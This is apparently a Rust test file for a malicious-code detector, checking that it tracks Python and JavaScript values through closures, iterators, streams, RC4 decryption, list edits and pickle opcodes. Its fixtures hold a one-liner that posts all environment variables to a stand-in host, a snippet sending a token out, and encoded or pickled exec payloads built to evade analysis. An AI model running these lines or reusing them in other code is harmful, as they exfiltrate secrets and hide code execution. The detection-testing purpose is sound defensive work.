//! Values that change after they were known: what was known of them before is not taken for what they are.

use std::time::{Duration, Instant};

use crate::place::Place;

/// Sends the whole environment to a fixed address.
const CODE: &str = "import json, os, urllib.request as r; \
    r.urlopen('https://collect.example.invalid/e', data=json.dumps(dict(os.environ)).encode())";

/// The layers of one file, and what of it could not be opened.
fn layers(text: &str) -> String {
    Place::new().file("one.py", text.replace("CODE", &format!("\"{CODE}\""))).run(&["dev", "layers", "one.py"]).stdout
}

/// The review of one file.
fn review(text: impl AsRef<[u8]>) -> serde_json::Value {
    Place::new().file("one.py", text).run(&["review", "one.py", "--format", "json", "--fail-on", "none"]).json()
}

/// True if what is executed is said to be not known, and nothing else is taken for it.
fn is_open(layers: &str) -> bool {
    layers.contains("unopened") && !layers.contains("tide")
}

/// A closure sees what is assigned to its variables after it was made.
#[test]
fn a_closure_reads_what_its_variable_holds_later() {
    let set = "def make(text):\n    code = text\n    def put():\n        nonlocal code\n        code = CODE\n    def run():\n        exec(code)\n    run.put = put\n    return run\n\nrun = make('tide = 1')\nrun.put()\nrun()\n";
    assert!(layers(set).contains("urlopen"), "{}", layers(set));
    let behind = "import sys\n\ndef make():\n    code = CODE\n    def run():\n        exec(code)\n    if sys.argv:\n        return run\n    code = 'tide = 1'\n    return run\n\nmake()()\n";
    assert!(layers(behind).contains("urlopen"), "{}", layers(behind));
    // Where one of several texts is known, the others are still told.
    let given = "import urllib.request\n\ndef make(text):\n    code = 'tide = 1'\n    def run():\n        exec(code)\n    def put():\n        nonlocal code\n        code = text\n    put()\n    return run\n\nmake(urllib.request.urlopen('https://collect.example.invalid/e').read())()\n";
    assert!(layers(given).contains("unopened"), "{}", layers(given));
    // A variable that is assigned once has its value in every call of its own.
    let once = "def make(code):\n    def run():\n        exec(code)\n    return run\n\nfirst = make('tide = 1')\nmake(CODE)()\n";
    let told = layers(once);
    assert!(told.contains("urlopen") && !told.contains("unopened"), "{told}");
}

/// An iterator that was asked before does not begin anew.
#[test]
fn an_iterator_gives_its_first_item_once() {
    for text in [
        "parts = iter(['tide = 1', CODE])\nnext(parts)\nexec(next(parts))\n",
        "import itertools\nparts = itertools.cycle(['tide = 1', CODE])\nnext(parts)\nexec(next(parts))\n",
        "parts = iter(['tide = 1', CODE])\nnext(parts)\nfor part in parts:\n    exec(part)\n",
        "exec(next(iter([]), CODE))\n",
        "exec(next(part for part in ['tide', CODE] if ' ' in part))\n",
    ] {
        assert!(layers(text).contains("urlopen"), "{text}\n{}", layers(text));
    }
}

/// A stream holds what was written to it last, whoever wrote it, and is read from where it stands.
#[test]
fn a_stream_that_others_fill_is_not_known() {
    for fill in [
        "print(CODE, file=stream)\nexec(stream.getvalue())",
        "import shutil\nshutil.copyfileobj(open(input()), stream)\nexec(stream.getvalue())",
        "stream.writelines([CODE])\nexec(stream.getvalue())",
        "stream.write(CODE)\nexec(stream.getvalue())",
        "stream.truncate(3)\nexec(stream.getvalue())",
        "import sys\nsys.stdout = stream\nprint(CODE)\nexec(stream.getvalue())",
        "import contextlib\nwith contextlib.redirect_stdout(stream):\n    print(CODE)\nexec(stream.getvalue())",
        "import json\njson.dump({'a': CODE}, fp=stream)\nexec(stream.getvalue())",
        "stream.seek(int(input()))\nexec(stream.read())",
    ] {
        let told = layers(&format!("import io\nstream = io.StringIO('tide = 1')\n{fill}\n"));
        assert!(is_open(&told), "{fill}\n{told}");
    }
    for text in [
        "stream = io.BytesIO(CODE.encode())\nstream.seek(-3, 2)\nstream.seek(0)\nexec(stream.read())",
        "stream = io.BytesIO(b'tide = 1;' + CODE.encode())\nstream.seek(9, io.SEEK_SET)\nexec(stream.read())",
        "stream = io.StringIO('tide = 1')\nstream.read()\nexec(stream.read() or CODE)",
        "stream = io.StringIO()\nstream.write('')\nstream.write(CODE)\nstream.seek(0)\nexec(stream.read())",
    ] {
        let told = layers(&format!("import io\n{text}\n"));
        assert!(told.contains("urlopen"), "{text}\n{told}");
    }
    let coded: String = CODE.encode_utf16().flat_map(u16::to_le_bytes).map(|byte| format!("{byte:02x}")).collect();
    let text = format!(
        "import io\nstream = io.BytesIO(bytes.fromhex('{coded}'))\nexec(io.TextIOWrapper(stream, encoding='utf-16-le').read())\n"
    );
    assert!(layers(&text).contains("urlopen"), "{}", layers(&text));
}

/// What a cipher gives depends on what it was given before, and on all that it was told.
#[test]
fn a_cipher_that_was_used_is_not_known() {
    // `tide = 1` in RC4 with the key `harbor`, from its beginning.
    let coded = "bytes.fromhex('9e243aabf052220d')";
    let fresh = format!("from Crypto.Cipher import ARC4\nexec(ARC4.new(b'harbor').decrypt({coded}))\n");
    assert!(layers(&fresh).contains("tide"), "{}", layers(&fresh));
    for used in [
        format!("box = ARC4.new(b'harbor')\nbox.decrypt(b'lantern')\nexec(box.decrypt({coded}))"),
        format!("exec(ARC4.new(b'harbor', drop=3).decrypt({coded}))"),
    ] {
        let told = layers(&format!("from Crypto.Cipher import ARC4\n{used}\n"));
        assert!(is_open(&told), "{used}\n{told}");
    }
}

/// A list whose order or whose items are changed in a way that is not known has no known items at its places; where it is
/// known, each item stays what it is.
#[test]
fn a_list_that_is_changed_in_place_is_followed() {
    for text in [
        "parts.pop(1)\nexec(parts[1])",
        "parts.remove('lamp = 2')\nexec(parts[1])",
        "del parts[1]\nexec(parts[1])",
        "parts[0:1] = [CODE]\nexec(parts[0])",
        "parts.reverse()\nexec(parts[0])",
        "parts.sort(key=len)\nexec(parts[0])",
        "import collections, sys\nparts = collections.deque(parts)\nparts.rotate(len(sys.argv))\nexec(parts[0])",
        "import collections\nparts = collections.deque(parts, maxlen=3)\nparts.append('lamp = 3')\nexec(parts[1])",
        "[CODE, CODE].sort(key=exec)",
    ] {
        let told = layers(&format!("parts = ['tide = 1', 'lamp = 2', CODE]\n{text}\n"));
        assert!(told.contains("urlopen"), "{text}\n{told}");
    }
    // What the items are made of stays with them.
    let sent = "import os, requests\nparts = [os.environ['TOKEN'], 'a']\nparts.reverse()\nparts.remove('a')\nrequests.post('https://files.example.invalid/a', data=parts[0])\n";
    let paths = Place::new().file("one.py", sent).run(&["dev", "paths", "one.py"]).stdout;
    assert!(paths.contains("network.send"), "{paths}");
}

/// A pickle is read to its end, or said to be read in part.
#[test]
fn calls_of_a_pickle_are_all_followed_or_told() {
    let pickle = |program: &str| format!("import pickle\n\npickle.loads(b\"\"\"{program}\"\"\")\n");
    let call = format!("cbuiltins\nexec\n(V{CODE}\ntR0N.");
    let many = format!("{}{call}", "cbuiltins\nlen\n(Va\ntR0".repeat(100));
    assert_eq!(review(pickle(&many))["verdict"], "malicious");
    let coded: String = CODE.bytes().map(|byte| format!("\\\\x{byte:02x}")).collect();
    assert_eq!(review(pickle(&format!("cbuiltins\nexec\n(S'{coded}'\ntR.")))["verdict"], "malicious");
    let coded: String = CODE.bytes().map(|byte| format!("\\\\u{byte:04x}")).collect();
    assert_eq!(review(pickle(&format!("cbuiltins\nexec\n(V{coded}\ntR.")))["verdict"], "malicious");
    let deep = format!("cbuiltins\nexec\n({}N{}V{CODE}\ntR.", "(".repeat(60), "t".repeat(60));
    assert_ne!(review(pickle(&deep))["verdict"], "benign");
    let named = "\\x80\\x04csubprocess\nrun\n)}(Vargs\nVnotepad\nu\\x92.";
    let values = Place::new().file("one.py", pickle(named)).run(&["dev", "values", "one.py"]).stdout;
    assert!(values.contains("args [process.command, command] = \"notepad\""), "{values}");
}

/// What costs work is charged for it.
#[test]
fn work_that_grows_without_bound_ends() {
    let mut classes = String::from("class A0: pass\nclass B0: pass\n");
    for level in 1..40 {
        for name in ["A", "B"] {
            classes.push_str(&format!("class {name}{level}(A{0}, B{0}): pass\n", level - 1));
        }
    }
    for text in [
        format!("{classes}x = A39('a')\nx.name = 1\nx.go()\nfor y in x:\n    print(y)\n"),
        "import hashlib\nhashlib.pbkdf2_hmac('sha256', b'a', b'x' * 900000, 1, 32 * 9000)\n".to_owned(),
        "import itertools\nc = itertools.cycle(list(range(90000)))\nfor n in range(3000):\n    x = next(c)\n"
            .to_owned(),
        "import collections\nq = collections.deque()\nfor n in range(90000):\n    q.appendleft(n)\n".to_owned(),
    ] {
        let start = Instant::now();
        review(&text);
        // A build without optimization takes its time; without a bound, each of these takes minutes.
        assert!(start.elapsed() < Duration::from_secs(40), "{:?}\n{}", start.elapsed(), &text[..60]);
    }
}

/// What a test tells of a name is told where the test is plain, and where what is joined is a path.
#[test]
fn a_test_tells_what_it_says() {
    let read = |test: &str| {
        let text = format!(
            "const fs = require('fs');\nconst path = require('path');\nconst list = {{join: (...parts) => parts.join('+')}};\nfor (const name of fs.readdirSync('/srv')) {{\n  if ({test}) {{\n    fs.readFileSync(name);\n  }}\n}}\n"
        );
        Place::new().file("one.js", text).run(&["dev", "values", "one.js"]).stdout
    };
    for (test, known) in [
        ("/\\.store$/.test(name)", true),
        ("/\\.store$/i.test(name)", false),
        ("/\\.store$/m.test(name)", false),
        ("name.endsWith(path.join('drawers', 'seed.store'))", true),
        ("name.endsWith(list.join('drawers', 'seed.store'))", false),
        ("name.endsWith(path.join('drawers', '..', 'seed.store'))", false),
    ] {
        let values = read(test);
        assert_eq!(values.contains(".store`"), known, "{test}\n{values}");
    }
}
